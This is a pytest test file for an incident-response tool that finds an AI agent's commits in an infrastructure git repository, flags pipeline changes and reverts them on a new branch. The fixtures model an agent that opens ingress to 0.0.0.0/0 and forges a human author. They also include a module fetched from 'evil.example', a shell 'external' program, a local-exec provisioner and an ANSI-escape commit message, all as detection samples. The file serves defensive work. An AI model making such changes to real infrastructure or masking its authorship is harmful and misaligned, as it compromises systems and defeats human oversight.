"""The git adapter on real repositories: the agent's commits found, reverted on a new branch, nothing else touched."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from irkit.iac import IacDryRun, IacError
from irkit.iac import git as iacgit
from irkit.iac.git import GitRepo, pipeline_reasons
from tests.iac.gitrepo import AGENT, HUMAN, Repo, init_repo

NOW = datetime(2026, 11, 25, 21, 0, tzinfo=UTC)
START = NOW - timedelta(hours=4)
OLD = NOW - timedelta(days=20)
IDS = [AGENT[1]]

MAIN_TF = 'resource "null_resource" "ingress" {\n  triggers = { cidr = "10.20.0.0/16" }\n}\n'
WIDE_TF = MAIN_TF.replace("10.20.0.0/16", "0.0.0.0/0")


def base_repo(tmp_path: Path) -> Repo:
    repo = init_repo(tmp_path / "infra")
    repo.commit("initial infrastructure", when=OLD, files={"prod/main.tf": MAIN_TF, "README.md": "infra\n"})
    return repo


def scan(repo: Repo, base: str = "main") -> iacgit.CommitScan:
    return GitRepo(repo.path).agent_commits(base, IDS, since=START, until=NOW)


def test_finds_the_agents_commits_in_the_window_by_author_or_committer(tmp_path: Path) -> None:
    repo = base_repo(tmp_path)
    old_agent = repo.commit("agent tidy-up, long ago", when=OLD + timedelta(days=1), author=AGENT, files={"a": "1"})
    human = repo.commit("human change", when=NOW - timedelta(hours=2), files={"b": "1"})
    by_author = repo.commit(
        "widen ingress", when=NOW - timedelta(minutes=90), author=AGENT, files={"prod/main.tf": WIDE_TF}
    )
    # Forged author, real committer: the agent committed it under a human's name.
    forged = repo.commit("innocent", when=NOW - timedelta(minutes=60), author=HUMAN, committer=AGENT, files={"c": "1"})

    result = scan(repo)

    assert [c.sha for c in result.commits] == [forged, by_author]  # newest first
    assert result.commits[0].matched_by == ("committer",)
    assert str(result.commits[0].author) == f"{HUMAN[0]} <{HUMAN[1]}>"
    assert str(result.commits[0].committer) == f"{AGENT[0]} <{AGENT[1]}>"
    assert result.commits[1].matched_by == ("author", "committer")
    assert result.commits[1].paths == ("prod/main.tf",)
    assert human not in {c.sha for c in result.commits}
    assert [c.sha for c in result.outside_window] == [old_agent]


def test_identities_match_names_too_and_ignore_case(tmp_path: Path) -> None:
    repo = base_repo(tmp_path)
    sha = repo.commit(
        "x", when=NOW - timedelta(minutes=5), author=("Infra-Optimizer", "bot@other.example"), files={"x": "1"}
    )
    result = GitRepo(repo.path).agent_commits("main", ["infra-optimizer"], since=START, until=NOW)
    assert [c.sha for c in result.commits] == [sha]


@pytest.mark.parametrize(
    ("path", "text", "reason"),
    [
        (".github/workflows/deploy.yml", "on: push\n", "CI workflow"),
        (".gitlab-ci.yml", "deploy: {}\n", "CI pipeline"),
        ("prod/.terraform.lock.hcl", 'provider "x" {}\n', "provider lock file"),
        ("prod/backend.tf", 'terraform {\n  backend "s3" {}\n}\n', "backend block"),
        ("prod/mod.tf", 'module "m" {\n  source = "git::https://evil.example/m"\n}\n', "provider or module source"),
        ("prod/ext.tf", 'data "external" "x" {\n  program = ["sh"]\n}\n', 'data "external"'),
        ("prod/prov.tf", 'resource "null_resource" "p" {\n  provisioner "local-exec" {}\n}\n', "provisioner"),
    ],
)
def test_an_agent_commit_touching_the_pipeline_is_flagged(tmp_path: Path, path: str, text: str, reason: str) -> None:
    repo = base_repo(tmp_path)
    repo.commit("pipeline", when=NOW - timedelta(minutes=30), author=AGENT, files={path: text})
    (commit,) = scan(repo).commits
    assert any(r.startswith(reason) for r in commit.pipeline), commit.pipeline


def test_an_ordinary_resource_change_is_not_a_pipeline_change(tmp_path: Path) -> None:
    repo = base_repo(tmp_path)
    repo.commit("widen", when=NOW - timedelta(minutes=30), author=AGENT, files={"prod/main.tf": WIDE_TF})
    (commit,) = scan(repo).commits
    assert commit.pipeline == ()


def test_a_diff_too_large_to_scan_counts_as_touching_the_pipeline(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(iacgit, "MAX_SCAN_LINES", 10)
    repo = base_repo(tmp_path)
    repo.commit("big", when=NOW - timedelta(minutes=30), author=AGENT, files={"prod/big.tf": "# x\n" * 50})
    (commit,) = scan(repo).commits
    assert any("too large to scan" in r for r in commit.pipeline)


def test_pipeline_reasons_name_each_path_once() -> None:
    reasons = pipeline_reasons(
        [".github/workflows/a.yml"], [("x.tf", 'provisioner "local-exec" {'), ("x.tf", 'provisioner "a"')]
    )
    assert reasons == ("CI workflow: .github/workflows/a.yml", "provisioner: x.tf")


def test_hostile_commit_text_is_one_bounded_line(tmp_path: Path) -> None:
    repo = base_repo(tmp_path)
    repo.commit("evil\x1b[31m" + "A" * 500, when=NOW - timedelta(minutes=3), author=AGENT, files={"x": "1"})
    (commit,) = scan(repo).commits
    assert "\x1b" not in commit.summary
    assert len(commit.summary) <= 200


def revert_all(repo: Repo, case: str = "IR-1") -> tuple[GitRepo, iacgit.ScratchRepo, list[iacgit.RevertOutcome]]:
    real = GitRepo(repo.path)
    commits = real.agent_commits("main", IDS, since=START, until=NOW).commits
    scratch = real.clone_to(repo.path.parent / "scratch")
    scratch.start_branch(f"irkit/revert-{case}", real.resolve("main"))
    return real, scratch, [scratch.revert(c, case_id=case) for c in commits]


def test_reverts_newest_first_on_a_new_branch_and_leaves_the_repository_alone(tmp_path: Path) -> None:
    repo = base_repo(tmp_path)
    repo.commit("widen", when=NOW - timedelta(minutes=90), author=AGENT, files={"prod/main.tf": WIDE_TF})
    repo.commit(
        "port",
        when=NOW - timedelta(minutes=80),
        author=AGENT,
        files={"prod/main.tf": WIDE_TF.replace("}\n}", "  port = 4444 }\n}")},
    )
    repo.write("scratch-notes.txt", "the responder's uncommitted work\n")
    before = GitRepo(repo.path).fingerprint()

    real, scratch, outcomes = revert_all(repo)

    assert [o.status for o in outcomes] == ["reverted", "reverted"]
    assert (scratch.path / "prod/main.tf").read_text() == MAIN_TF
    assert GitRepo(repo.path).fingerprint() == before  # planning touched nothing
    assert real.adopt_branch(scratch, "irkit/revert-IR-1", scratch.head()) == "created"
    after = GitRepo(repo.path).fingerprint()
    assert after["status"] == before["status"] and after["head"] == before["head"]
    assert real.branch_sha("irkit/revert-IR-1") == scratch.head()
    assert real.resolve("main") == repo.git("rev-parse", "main")  # the base did not move
    log = repo.git("log", "--format=%s%n%b", "irkit/revert-IR-1", "-2")
    assert 'Revert "port"' in log and 'Revert "widen"' in log and "Irkit-Case: IR-1" in log
    # A resumed run finds the branch where it belongs; it is never moved.
    assert real.adopt_branch(scratch, "irkit/revert-IR-1", scratch.head()) == "exists"


def test_an_existing_branch_elsewhere_is_never_moved(tmp_path: Path) -> None:
    repo = base_repo(tmp_path)
    repo.commit("widen", when=NOW - timedelta(minutes=90), author=AGENT, files={"prod/main.tf": WIDE_TF})
    repo.git("branch", "irkit/revert-IR-1", "main~1")
    real, scratch, _ = revert_all(repo)
    with pytest.raises(IacError, match="already exists"):
        real.adopt_branch(scratch, "irkit/revert-IR-1", scratch.head())
    assert real.branch_sha("irkit/revert-IR-1") == repo.git("rev-parse", "main~1")


def test_an_agent_merge_is_reverted_with_mainline_one_and_covers_its_side_commits(tmp_path: Path) -> None:
    repo = base_repo(tmp_path)
    repo.git("checkout", "--quiet", "-b", "feature")
    side = repo.commit("side", when=NOW - timedelta(minutes=50), author=AGENT, files={"prod/main.tf": WIDE_TF})
    repo.git("checkout", "--quiet", "main")
    repo.commit("human on main", when=NOW - timedelta(minutes=45), files={"docs.md": "x\n"})
    merge = repo.merge("feature", when=NOW - timedelta(minutes=40), author=AGENT)

    _, scratch, outcomes = revert_all(repo)

    by_sha = {o.sha: o for o in outcomes}
    assert by_sha[merge].status == "reverted"
    assert by_sha[side].status == "covered"
    assert (scratch.path / "prod/main.tf").read_text() == MAIN_TF
    assert (scratch.path / "docs.md").exists()  # mainline kept
    body = repo_log(scratch.path)
    assert f"reversing changes made to {repo.git('rev-parse', 'main^1')}" in body


def repo_log(path: Path) -> str:
    return Repo(path).git("log", "-1", "--format=%B")


def test_a_conflict_stops_with_the_paths_named_and_a_clean_scratch(tmp_path: Path) -> None:
    repo = base_repo(tmp_path)
    repo.commit("widen", when=NOW - timedelta(minutes=90), author=AGENT, files={"prod/main.tf": WIDE_TF})
    repo.commit(
        "human edits the same line",
        when=NOW - timedelta(minutes=20),
        files={"prod/main.tf": WIDE_TF.replace("0.0.0.0/0", "0.0.0.0/1")},
    )

    _, scratch, outcomes = revert_all(repo)

    (outcome,) = outcomes
    assert outcome.status == "conflict"
    assert outcome.conflicts == ("prod/main.tf",)
    assert Repo(scratch.path).git("status", "--porcelain") == ""


def test_a_commit_already_reverted_on_the_base_is_empty(tmp_path: Path) -> None:
    repo = base_repo(tmp_path)
    repo.commit("widen", when=NOW - timedelta(minutes=90), author=AGENT, files={"prod/main.tf": WIDE_TF})
    repo.commit("human reverts it", when=NOW - timedelta(minutes=20), files={"prod/main.tf": MAIN_TF})
    _, _, outcomes = revert_all(repo)
    assert [o.status for o in outcomes] == ["empty"]


def test_a_dry_run_refuses_every_change_to_the_repository(tmp_path: Path) -> None:
    repo = base_repo(tmp_path)
    repo.commit("widen", when=NOW - timedelta(minutes=90), author=AGENT, files={"prod/main.tf": WIDE_TF})
    _, scratch, _ = revert_all(repo)
    dry = GitRepo(repo.path, dry_run=True)
    before = dry.fingerprint()
    with pytest.raises(IacDryRun):
        dry.adopt_branch(scratch, "irkit/revert-IR-1", scratch.head())
    with pytest.raises(IacDryRun):
        dry.push("origin", "irkit/revert-IR-1")
    assert dry.fingerprint() == before


def test_push_is_never_forced(tmp_path: Path) -> None:
    remote = init_repo(tmp_path / "remote.git")
    remote.git("config", "receive.denyCurrentBranch", "ignore")
    repo = base_repo(tmp_path)
    repo.commit("widen", when=NOW - timedelta(minutes=90), author=AGENT, files={"prod/main.tf": WIDE_TF})
    repo.git("remote", "add", "origin", str(remote.path))
    real, scratch, _ = revert_all(repo)
    real.adopt_branch(scratch, "irkit/revert-IR-1", scratch.head())
    real.push("origin", "irkit/revert-IR-1")
    assert remote.git("rev-parse", "irkit/revert-IR-1") == scratch.head()
    # The remote's branch moved on: a second push is refused, not forced.
    other = remote.commit("someone else's work", when=NOW, files={"other.txt": "x\n"})
    remote.git("update-ref", "refs/heads/irkit/revert-IR-1", other)
    with pytest.raises(IacError, match="push"):
        real.push("origin", "irkit/revert-IR-1")


def test_not_a_repository_is_a_clear_error(tmp_path: Path) -> None:
    with pytest.raises(IacError, match="not a git repository"):
        GitRepo(tmp_path)
    with pytest.raises(IacError, match="no such directory"):
        GitRepo(tmp_path / "missing")
    repo = base_repo(tmp_path)
    with pytest.raises(IacError, match="no branch or revision"):
        GitRepo(repo.path).resolve("nope")
